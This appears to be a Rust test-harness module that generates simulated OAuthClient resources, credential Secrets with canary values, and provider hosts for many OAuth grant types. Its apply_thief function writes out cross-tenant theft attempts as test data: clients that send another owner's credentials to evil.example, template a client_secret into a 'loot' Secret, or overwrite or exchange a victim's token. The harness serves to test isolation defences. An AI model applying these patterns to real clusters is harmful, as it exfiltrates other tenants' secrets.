//! The resources of a world: every grant, every kind of provider, owners and their Secrets, and tenants who want what is not
//! theirs.

use serde_json::{Value, json};

use super::draws::Draws;
use super::objects::{Kind, Objects};

/// How a resource asks for its tokens.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Way {
    Basic,
    Post,
    Json,
    Password,
    PasswordRefresh,
    RefreshStrict,
    RefreshGrace,
    RefreshKeeps,
    PrivateKeyJwt,
    SecretJwt,
    JwtBearer,
    ExchangeOfOther,
    ExchangeOfAccount,
    AccountAuthentication,
    Issuer,
    RevokesPrevious,
    OwnLead,
    InvalidatesPrevious,
    Caching,
    KnownCaching,
    Extension,
    NoLifetime,
    Throttled,
    Outages,
    Hangs,
    Dpop,
}

impl Way {
    pub const ALL: [Way; 26] = [
        Way::Basic,
        Way::Post,
        Way::Json,
        Way::Password,
        Way::PasswordRefresh,
        Way::RefreshStrict,
        Way::RefreshGrace,
        Way::RefreshKeeps,
        Way::PrivateKeyJwt,
        Way::SecretJwt,
        Way::JwtBearer,
        // Right behind one whose token it exchanges.
        Way::ExchangeOfOther,
        Way::ExchangeOfAccount,
        Way::AccountAuthentication,
        Way::Issuer,
        Way::RevokesPrevious,
        Way::OwnLead,
        Way::InvalidatesPrevious,
        Way::Caching,
        Way::KnownCaching,
        Way::Extension,
        Way::NoLifetime,
        Way::Throttled,
        Way::Outages,
        Way::Hangs,
        Way::Dpop,
    ];

    /// Whether it works with refresh tokens.
    pub fn refreshes(self) -> bool {
        matches!(
            self,
            Way::PasswordRefresh | Way::RefreshStrict | Way::RefreshGrace | Way::RefreshKeeps
        )
    }

    /// Whether its token is revoked when it is deleted.
    pub fn revokes(self) -> bool {
        matches!(self, Way::Issuer | Way::RevokesPrevious)
    }

    /// Whether a person has to log in when its refresh tokens have come to an end.
    pub fn needs_login(self) -> bool {
        self.refreshes() && self != Way::PasswordRefresh
    }
}

/// The cache window of providers that cache, in seconds.
pub const WINDOW: i64 = 600;

/// One resource.
#[derive(Clone, Debug)]
pub struct Plan {
    pub index: usize,
    pub way: Way,
    pub namespace: String,
    pub name: String,
    pub host: String,
    /// The lifetime that its provider grants, in seconds.
    pub life: i64,
    /// What a second OAuthClient tries with what is not its own.
    pub thief: Option<u64>,
}

impl Plan {
    pub fn of(seed: u64, index: usize) -> Self {
        let mut draws = Draws::of(seed, "plan", index as u64);
        let way = Way::ALL[index % Way::ALL.len()];
        let host_number = index / 150;
        let lives = [
            3600, 3600, 7200, 14_400, 14_400, 28_800, 28_800, 43_200, 86_400, 86_400, 604_800,
        ];
        let mut life_draws = Draws::of(seed, "life", (host_number * 100 + way as usize) as u64);
        let life = match way {
            Way::Basic if host_number == 0 => 600,
            Way::NoLifetime => 3300,
            Way::Caching | Way::KnownCaching => 14_400,
            _ => life_draws.pick(&lives),
        };
        Plan {
            index,
            way,
            namespace: format!("team-{}", index / 50),
            name: format!("r{index}"),
            host: format!(
                "{}-{host_number}.sim.example",
                format!("{way:?}").to_lowercase()
            ),
            life,
            thief: match way {
                Way::JwtBearer => Some(4),
                _ => (index % 10 == 3).then(|| draws.next() % 5),
            },
        }
    }

    /// Whether a second OAuthClient names the same token Secret.
    pub fn shares_its_secret(&self) -> bool {
        self.thief == Some(3)
    }

    /// How long before the end a refresh is wanted by default, in milliseconds.
    pub fn lead(&self) -> i64 {
        let life = self.life;
        (life / 4).max(180).min(life / 2).min(86_400) * 1000
    }

    pub fn secret_name(&self) -> String {
        format!("{}-client", self.name)
    }

    /// Where its tokens may be sent.
    pub fn token_hosts(&self) -> String {
        match self.way {
            Way::JwtBearer => self.host.replace("jwtbearer", "exchangeofother"),
            _ => self.host.clone(),
        }
    }

    pub fn url(&self) -> String {
        format!("https://{}/token/{}", self.host, self.index)
    }

    /// A secret of its owner, in one of its versions.
    pub fn secret(&self, what: &str, version: u64) -> String {
        format!("CANARY-{what}-{}-{version}", self.index)
    }

    pub fn spec(&self) -> Value {
        let name = &self.name;
        let mut spec = json!({
            "provider": {"tokenURL": self.url()},
            "credentials": {"secretName": self.secret_name()},
            "tokenSecret": {"name": format!("{name}-token")},
        });
        let exchange = "urn:ietf:params:oauth:grant-type:token-exchange";
        let account =
            json!({"serviceAccountName": format!("{name}-account"), "audience": "api://sim"});
        match self.way {
            Way::Basic
            | Way::Caching
            | Way::NoLifetime
            | Way::Throttled
            | Way::Outages
            | Way::Hangs => {}
            Way::Post => spec["clientAuthentication"] = json!({"method": "client_secret_post"}),
            Way::Json => {
                spec["clientAuthentication"] = json!({"method": "client_secret_post"});
                spec["request"] = json!({"format": "json"});
                spec["parameters"] = json!([{"name": "audience", "value": "https://api.example/"}]);
            }
            Way::Password => spec["grant"] = json!({"type": "password"}),
            Way::PasswordRefresh => {
                spec["grant"] = json!({"type": "password", "password": {"useRefreshToken": true}});
            }
            Way::RefreshStrict | Way::RefreshGrace | Way::RefreshKeeps => {
                spec["grant"] = json!({"type": "refresh_token"});
            }
            Way::PrivateKeyJwt => {
                spec["clientAuthentication"] = json!({"method": "private_key_jwt", "privateKeyJWT": {"audience": "https://sim.example"}});
            }
            Way::SecretJwt => {
                spec["clientAuthentication"] = json!({"method": "client_secret_jwt", "clientSecretJWT": {"audience": "https://sim.example"}});
            }
            Way::JwtBearer => {
                spec["grant"] = json!({
                    "type": "urn:ietf:params:oauth:grant-type:jwt-bearer",
                    "jwtBearer": {"audience": "https://sim.example"},
                });
                spec["clientAuthentication"] = json!({"method": "none"});
                spec["tokenSecret"]["labels"] = json!({"oauthclient.dev/credentials": "true"});
            }
            Way::ExchangeOfOther => {
                let other = format!("r{}", self.index - 1);
                spec["grant"] = json!({"type": exchange, "tokenExchange": {"subjectToken": {"oauthClientName": other}}});
            }
            Way::ExchangeOfAccount => {
                spec["grant"] = json!({"type": exchange, "tokenExchange": {"subjectToken": {"serviceAccountToken": account}}});
            }
            Way::AccountAuthentication => {
                if let Some(spec) = spec.as_object_mut() {
                    spec.remove("credentials");
                }
                spec["clientAuthentication"] = json!({
                    "method": "service_account_token",
                    "clientID": format!("client-{}", self.index),
                    "serviceAccountToken": account,
                });
            }
            Way::Issuer => {
                spec["provider"] =
                    json!({"issuerURL": format!("https://{}/issuer/{}", self.host, self.index)});
                spec["revocation"] = json!({"onDeletion": true});
            }
            Way::RevokesPrevious => {
                spec["provider"]["revocationURL"] =
                    json!(format!("https://{}/revoke/{}", self.host, self.index));
                spec["revocation"] =
                    json!({"previousToken": {"afterSeconds": 300}, "onDeletion": true});
            }
            Way::OwnLead => spec["refresh"] = json!({"beforePercent": 40}),
            Way::InvalidatesPrevious => {
                spec["refresh"] = json!({"tokenReuse": "InvalidatesPrevious"})
            }
            Way::Dpop => spec["dpop"] = json!({}),
            Way::KnownCaching => spec["refresh"] = json!({"cacheWindowSeconds": WINDOW}),
            Way::Extension => {
                spec["grant"] = json!({"type": "urn:example:device-bound"});
                spec["clientAuthentication"] = json!({"method": "none"});
                spec["parameters"] =
                    json!([{"name": "assertion", "credentialsKey": "client_secret"}]);
            }
        }
        if self.index.is_multiple_of(4) {
            spec["tokenSecret"]["data"] = json!({"authorization": "{{ token_type }} {{ access_token }}", "access_token": "{{ access_token }}"});
        }
        spec
    }

    /// The Secret with the credentials of this version.
    pub fn credentials(&self, version: u64, key: &str) -> Value {
        let data = |text: &str| json!(base64(text));
        let mut all = json!({
            "client_id": data(&format!("client-{}", self.index)),
            "client_secret": data(&self.secret("secret", version)),
        });
        match self.way {
            Way::Password | Way::PasswordRefresh => {
                all["username"] = data("somebody");
                all["password"] = data(&self.secret("password", version));
            }
            Way::PrivateKeyJwt | Way::JwtBearer => all["private_key"] = data(key),
            _ => {}
        }
        let mut annotations = json!({"oauthclient.dev/allowed-hosts": self.host});
        if self.way == Way::JwtBearer {
            annotations["oauthclient.dev/allowed-token-hosts"] = json!(self.token_hosts());
        }
        json!({
            "metadata": {
                "name": self.secret_name(),
                "labels": {"oauthclient.dev/credentials": "true"},
                "annotations": annotations,
            },
            "type": "Opaque",
            "data": all,
        })
    }

    /// Everything that people apply for this resource.
    pub fn apply(&self, objects: &mut Objects, key: &str, refresh_token: Option<String>) {
        let namespace = &self.namespace;
        let mut credentials = self.credentials(1, key);
        if let Some(token) = refresh_token {
            credentials["data"]["refresh_token"] = json!(base64(&token));
        }
        let _ = objects.create(Kind::Secret, namespace, credentials);
        if matches!(
            self.way,
            Way::ExchangeOfAccount | Way::AccountAuthentication
        ) {
            let account = json!({"metadata": {
                "name": format!("{}-account", self.name),
                "annotations": {
                    "oauthclient.dev/allowed-audiences": "api://sim",
                    "oauthclient.dev/allowed-hosts": self.host,
                },
            }});
            let _ = objects.create(Kind::ServiceAccount, namespace, account);
        }
        self.apply_client(objects);
    }

    pub fn apply_client(&self, objects: &mut Objects) {
        let client = json!({"metadata": {"name": self.name}, "spec": self.spec()});
        let _ = objects.create(Kind::OAuthClient, &self.namespace, client);
    }

    /// A second resource, of a tenant who may only write OAuthClients and wants what this one has.
    pub fn apply_thief(&self, objects: &mut Objects, how: u64) {
        let evil = format!("https://evil.example/token/{}", self.index);
        let token = format!("{}-token", self.name);
        let mut spec = json!({
            "provider": {"tokenURL": evil},
            "credentials": {"secretName": self.secret_name()},
            "tokenSecret": {"name": format!("{}-loot", self.name)},
        });
        match how {
            0 => {}
            1 => spec["credentials"]["secretName"] = json!(token),
            2 => {
                spec["provider"]["tokenURL"] = json!(self.url());
                spec["tokenSecret"]["data"] = json!({"loot": "{{ credentials.client_secret }}"});
            }
            3 => {
                spec["provider"]["tokenURL"] = json!(self.url());
                spec["tokenSecret"]["name"] = json!(token);
            }
            _ => {
                spec["clientAuthentication"] = json!({"method": "none"});
                spec["grant"] = json!({
                    "type": "urn:ietf:params:oauth:grant-type:token-exchange",
                    "tokenExchange": {"subjectToken": {"oauthClientName": self.name}},
                });
            }
        }
        let client = json!({"metadata": {"name": format!("thief-{}", self.index)}, "spec": spec});
        let _ = objects.create(Kind::OAuthClient, &self.namespace, client);
    }
}

pub fn base64(text: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(text)
}

pub fn from_base64(text: &str) -> String {
    use base64::Engine as _;
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(text)
        .unwrap_or_default();
    String::from_utf8_lossy(&bytes).into_owned()
}

/// A private key in PEM, as PKCS #8.
pub fn private_key() -> String {
    use base64::Engine as _;
    let random = ring::rand::SystemRandom::new();
    let algorithm = &ring::signature::ECDSA_P256_SHA256_FIXED_SIGNING;
    let key = ring::signature::EcdsaKeyPair::generate_pkcs8(algorithm, &random);
    let bytes = key.map(|key| key.as_ref().to_vec()).unwrap_or_default();
    let text = base64::engine::general_purpose::STANDARD.encode(bytes);
    format!("-----BEGIN PRIVATE KEY-----\n{text}\n-----END PRIVATE KEY-----\n")
}
